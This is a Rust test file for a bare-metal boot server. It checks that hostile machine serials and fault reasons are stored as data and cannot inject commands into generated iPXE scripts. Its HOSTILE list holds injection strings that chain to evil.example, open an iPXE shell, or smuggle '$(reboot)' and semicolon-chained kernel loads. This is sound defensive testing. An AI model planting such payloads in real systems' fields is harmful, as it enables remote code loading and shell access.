//! Hostile machine facts are stored as data and never reach a script as syntax.

use serde_json::Value;

use crate::common::{Server, code};

const HOSTILE: &[&str] = &[
    "SER\nchain http://evil.example/x",
    "#!ipxe\nshell",
    "${net0/mac} ${root-path}",
    "a b c",
    "quote\" and 'single'",
    "semi; kernel http://evil/ || shell",
    "back`tick`$(reboot)",
    "\r\n\t\u{1b}[2J",
];

/// The lines an agent script may contain, with the variable parts (token, MAC) abstracted.
fn shape(script: &str) -> Vec<String> {
    script
        .lines()
        .map(|l| {
            l.split_whitespace()
                .map(|w| {
                    if let Some(t) = w.strip_prefix("rackhand.token=") {
                        assert!(
                            t.len() == 64 && t.chars().all(|c| c.is_ascii_hexdigit()),
                            "{w}"
                        );
                        "rackhand.token=T".to_owned()
                    } else {
                        w.to_owned()
                    }
                })
                .collect::<Vec<_>>()
                .join(" ")
        })
        .collect()
}

#[test]
fn hostile_serials_and_reasons_cannot_inject() {
    let s = Server::start();
    let long = "X".repeat(4096) + "Y";
    let mut serials: Vec<String> = HOSTILE.iter().map(|h| (*h).to_owned()).collect();
    serials.push("L".repeat(4096));
    serials.push(long);
    // The reference script shape: a benign machine in the same state.
    let (st, r, _) = s.boot_and_register("BENIGN-1", &["52:54:00:dd:00:00"]);
    assert_eq!(st, 201, "{r}");
    let (benign, _) = s.boot("52:54:00:dd:00:00");
    let want = shape(
        &benign
            .replace("52:54:00:dd:00:00", "M")
            .replace("52-54-00-dd-00-00", "H"),
    );
    for (i, serial) in serials.iter().enumerate() {
        let mac = format!("52:54:00:dd:01:{i:02x}");
        // Every free-text fact carries the hostile string, not only the serial.
        let (_, tok) = s.boot(&mac);
        let mut body = crate::common::report(serial, &[&mac]);
        body["hardware"]["dmi"]["product"] = serde_json::json!(serial);
        body["hardware"]["dmi"]["vendor"] = serde_json::json!(serial);
        body["hardware"]["disks"][0]["model"] = serde_json::json!(serial);
        body["hardware"]["nics"][0]["driver"] = serde_json::json!(serial);
        let (st, r) = s.agent_post(&tok.unwrap(), "/api/v1/agent/register", &body.to_string());
        let r: Value = serde_json::from_str(&r).unwrap();
        assert!(st == 201, "{serial:?}: {st} {r}");
        let id = r["machine_id"].as_str().unwrap();
        // Stored as data: the API returns the serial (bounded to 4096 bytes), untrusted.
        let (_, m) = s.op_get(&format!("/api/v1/machines/{id}"));
        let m: Value = serde_json::from_str(&m).unwrap();
        let stored = m["serial"].as_str().unwrap();
        assert!(stored.len() <= 4096);
        assert!(
            serial.trim().starts_with(stored) || stored == serial.trim(),
            "{stored:?}"
        );
        // The agent script has exactly the benign shape.
        let (script, _) = s.boot(&mac);
        let hyp = mac.replace(':', "-");
        let got = shape(&script.replace(&mac, "M").replace(&hyp, "H"));
        assert_eq!(got, want, "serial {serial:?} changed the script:\n{script}");
        // Broken with a hostile reason: the hold script echoes a sanitised line only.
        let reason = serde_json::json!({ "reason": serial.chars().take(1000).collect::<String>() });
        let (st, body) = s.op_post(
            &format!("/api/v1/machines/{id}/broken"),
            &reason.to_string(),
        );
        if serial.trim().is_empty() {
            assert_eq!(code(&body), "reason_required");
            continue;
        }
        assert_eq!(st, 200, "{body}");
        let (script, tok) = s.boot(&mac);
        assert!(tok.is_none());
        assert_eq!(script.lines().count(), 7, "{script}");
        for l in script.lines() {
            let head = l.split_whitespace().next().unwrap_or("");
            assert!(
                ["#!ipxe", "#", ":hold", "echo", "sleep", "chain"].contains(&head),
                "unexpected command {head:?} in:\n{script}"
            );
        }
        let echo = script
            .lines()
            .find(|l| l.contains("this machine is broken"))
            .unwrap();
        assert!(
            !echo.contains(['$', '{', '#', '"', '\'', ';', '`']),
            "{echo}"
        );
    }
}
